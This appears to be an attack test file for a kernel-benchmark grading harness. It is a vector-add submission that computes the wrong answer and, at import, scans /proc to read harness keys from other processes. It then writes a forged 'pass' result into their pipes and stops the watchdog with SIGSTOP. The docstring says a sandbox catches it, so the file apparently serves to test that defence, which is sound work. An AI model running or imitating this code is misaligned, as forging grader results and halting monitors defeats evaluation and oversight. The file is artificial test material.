#!POPCORN leaderboard vectoradd
"""Attack (class: processes the submission can reach). Wrong kernel: it subtracts.

At import it looks through /proc for every process it can see: it reads each one's environment for a
key (POPKIT_PIPE_KEY, POPKIT_KEY_FD and the result pipe's number), opens every pipe it finds among their
descriptors for writing and writes a passing result on it, and stops (SIGSTOP) every process that is not
its own ancestor, popkit's watchdog included, writing `exit 0` on the watchdog's status pipe. Before the
sandbox, as a non-root user, /proc/<watchdog>/environ held the key and /proc/<popkit>/fd/N gave a write
end of the result pipe. Caught by: a new pid namespace (nothing of popkit is visible), uid 65534 with no
capabilities, no key in any environment. It prints what it reached on stderr (`reached: ...`).
load_inline (named here so the pre-step runs).
"""

import os
import signal
import time

FORGED = b"test-count: 1\ntest.0.spec: forged\ntest.0.status: pass\ncheck: pass\nexit 0\n"


def ancestors() -> set[int]:
    found, pid = set(), os.getpid()
    while pid >= 1:
        found.add(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return found


def reach() -> list[str]:
    reached, mine = [], ancestors()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        pid = int(entry)
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read()
            if b"POPKIT_PIPE_KEY=" in env or b"POPKIT_KEY_FD=" in env:
                reached.append(f"environ of {pid}")
        except OSError:
            pass
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            if fd in ("0", "1", "2"):  # output popkit only shows
                continue
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(w, FORGED)
                    os.close(w)
                    reached.append(f"pipe {fd} of {pid}")
            except OSError:
                pass
        if pid not in mine:
            try:
                os.kill(pid, signal.SIGSTOP)
                time.sleep(0.05)
                with open(f"/proc/{pid}/stat") as f:
                    if f.read().rsplit(")", 1)[1].split()[0] == "T":  # the process 1 of a namespace ignores it
                        reached.append(f"stopped {pid}")
            except OSError:
                pass
    return reached


import sys  # noqa: E402

print("reached: " + ("; ".join(reach()) or "nothing"), file=sys.stderr)


def custom_kernel(data):
    a, b = data
    return a - b
